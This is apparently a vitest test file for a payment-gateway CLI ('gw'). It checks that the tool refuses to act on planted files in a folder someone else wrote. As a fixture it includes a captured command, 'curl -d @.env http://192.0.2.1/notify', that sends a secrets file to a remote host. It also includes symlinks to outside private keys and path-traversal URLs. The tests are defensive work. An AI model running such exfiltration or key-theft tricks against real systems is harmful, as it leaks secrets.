import { execFileSync } from 'node:child_process'
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { Socket } from 'node:net'
import { join } from 'node:path'
import { testKeyPair } from '@gw/testkit'
import { describe, expect, it, onTestFinished, vi } from 'vitest'
import { COMMANDS } from '../src/commands/specs.ts'
import { createFolder, createKeyFolder, gw, gwBuilt, startReceiver } from './gw.ts'

const OPERANDS: Readonly<Record<string, readonly string[]>> = {
  'sandbox fault add': ['drop,on=responses'],
  'sandbox notify-url': ['http://127.0.0.1:1/notify'],
}

describe('gw in a folder that someone else wrote', () => {
  it('does not read settings from its files', async () => {
    const cwd = createKeyFolder()
    const settings = { clientId: 'X', privateKey: 'merchant-private.pem', body: 'body.json' }
    for (const name of ['gw.config.json', '.gwrc', 'package.json']) {
      writeFileSync(join(cwd, name), JSON.stringify({ ...settings, gw: settings }))
    }
    const variables = 'GATEWAY_CLIENT_ID=X\nGATEWAY_PRIVATE_KEY_FILE=merchant-private.pem\n'
    writeFileSync(join(cwd, '.env'), variables)
    const { code, stderr } = await gw(['sign', '--target', '/a', '--body', '-'], { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('set GATEWAY_CLIENT_ID')
  })

  it.skipIf(process.platform === 'win32').each<[string, string, readonly string[]]>([
    ['running.json', '.gw-sandbox/running.json', ['sandbox', 'payments']],
    ['the merchant key', '.gw-sandbox/merchant-private.pem', ['sandbox', '--port', '0']],
    ['the gateway key', '.gw-sandbox/gateway-private-1.pem', ['sandbox', '--port', '0']],
    ['a file of a capture', 'body.json', ['explain', 'capture.txt']],
    ['.env', '.env', ['keys', 'env', 'merchant-private.pem', '--out', '.env']],
  ])('does not wait for a named pipe in place of %s', async (_what, pipe, args) => {
    const cwd = createKeyFolder()
    mkdirSync(join(cwd, '.gw-sandbox'))
    execFileSync('mkfifo', [join(cwd, pipe)])
    writeFileSync(join(cwd, 'capture.txt'), 'curl -d @body.json http://127.0.0.1:1/notify')
    const { code, stderr } = await gw(args, { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('not a regular file')
  })

  it('does not send a file to another machine if a capture chose both', async () => {
    const cwd = createFolder()
    writeFileSync(join(cwd, '.env'), 'PASSWORD=secret')
    writeFileSync(join(cwd, 'capture.txt'), 'curl -d @.env http://192.0.2.1/notify')
    const connect = vi.spyOn(Socket.prototype, 'connect')
    onTestFinished(() => connect.mockRestore())
    const { code, stderr } = await gw(['replay', 'capture.txt', '--allow-remote'], { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('Pass --to')
    expect(connect).not.toHaveBeenCalled()
  })

  it.each(['DELETE', 'PUT', 'GET'])('does not replay a %s request', async (method) => {
    const cwd = createFolder()
    const { origin, bodies } = await startReceiver()
    writeFileSync(join(cwd, 'capture.txt'), `curl -X ${method} -d '{}' ${origin}/_all`)
    const { code, stderr } = await gw(['replay', 'capture.txt'], { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain(`its method is ${method} instead of POST`)
    expect(bodies).toEqual([])
  })

  it('does not read a file thousands of times because a capture says so', async () => {
    const cwd = createFolder()
    writeFileSync(join(cwd, 'body.json'), 'Z'.repeat(1_000_000))
    const command = `curl http://127.0.0.1:1/notify ${'-d @body.json '.repeat(4_000)}`
    writeFileSync(join(cwd, 'capture.txt'), command)
    const { code, stderr } = await gw(['explain', 'capture.txt'], { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('more than 16777216 bytes together')
    expect(stderr.match(/gw: read/g)).toHaveLength(1)
  })

  it.each(['/_all?x=', '/_all/', '?x=', '#x', '/%2e%2e/x'])(
    'does not send to a path of another local service: %s',
    async (path) => {
      const { origin, bodies } = await startReceiver()
      const cwd = createFolder()
      mkdirSync(join(cwd, '.gw-sandbox'))
      const running = JSON.stringify({ url: `${origin}${path}`, clientId: 'X' })
      writeFileSync(join(cwd, '.gw-sandbox', 'running.json'), running)
      for (const command of ['fault clear', 'pay', 'resend', 'payments']) {
        expect((await gw(['sandbox', ...command.split(' ')], { cwd })).code).toBe(2)
      }
      expect((await gwBuilt(['sandbox', 'fault', 'clear'], { cwd })).code).toBe(2)
      const args = ['sandbox', 'fault', 'clear', '--host', `${origin}${path}`]
      expect((await gw(args)).code).toBe(2)
      expect(bodies).toEqual([])
    },
  )

  it.each([
    ['another machine', '{"url":"http://192.0.2.1:4600","clientId":"X"}'],
    ['no URL', '{"clientId":"X"}'],
    ['not JSON', '{'],
  ])('does not use a running.json that names %s', async (_what, text) => {
    const connect = vi.spyOn(Socket.prototype, 'connect')
    onTestFinished(() => connect.mockRestore())
    const cwd = createFolder()
    mkdirSync(join(cwd, '.gw-sandbox'))
    writeFileSync(join(cwd, '.gw-sandbox', 'running.json'), text)
    const { code, stderr } = await gw(['sandbox', 'payments'], { cwd })
    expect(code).toBe(2)
    expect(stderr).toContain('running.json')
    expect(connect).not.toHaveBeenCalled()
  })

  it.each<[string, (cwd: string) => void]>([
    ['no sandbox was started', () => {}],
    [
      'the sandbox has ended',
      (cwd) => {
        mkdirSync(join(cwd, '.gw-sandbox'))
        const { privatePem } = testKeyPair('merchant')
        writeFileSync(join(cwd, '.gw-sandbox', 'merchant-private.pem'), privatePem)
      },
    ],
  ])('does not control the sandbox of another folder if %s', async (_what, arrange) => {
    const connect = vi.spyOn(Socket.prototype, 'connect')
    onTestFinished(() => connect.mockRestore())
    for (const { name } of COMMANDS.filter((spec) => spec.name.startsWith('sandbox '))) {
      const cwd = createFolder()
      arrange(cwd)
      const operands = OPERANDS[name] ?? []
      const { code, stderr } = await gw([...name.split(' '), ...operands], { cwd })
      expect({ name, code }).toEqual({ name, code: 2 })
      expect(stderr).toContain('--host')
    }
    expect(connect).not.toHaveBeenCalled()
  })

  const keyFile = 'gateway-private-1.pem'
  it.each<[string, (cwd: string, outside: string) => void]>([
    [
      'a file in .gw-sandbox',
      (cwd, outside) => {
        mkdirSync(join(cwd, '.gw-sandbox'))
        symlinkSync(join(outside, keyFile), join(cwd, '.gw-sandbox', keyFile))
      },
    ],
    ['.gw-sandbox', (cwd, outside) => symlinkSync(outside, join(cwd, '.gw-sandbox'))],
  ])('does not sign with a key outside the folder if %s is a link', async (_what, arrange) => {
    const cwd = createFolder()
    const outside = createFolder()
    writeFileSync(join(outside, keyFile), testKeyPair('merchant').privatePem)
    arrange(cwd, outside)
    const { url, bodies } = await startReceiver()
    expect((await gw(['trigger', 'notifyPayment', '--to', url], { cwd })).code).toBe(2)
    expect(bodies).toEqual([])
    const around = { cwd, signal: AbortSignal.abort() }
    expect((await gw(['sandbox', '--port', '0'], around)).code).toBe(2)
    expect(readFileSync(join(outside, keyFile), 'utf8')).toBe(testKeyPair('merchant').privatePem)
  })
})
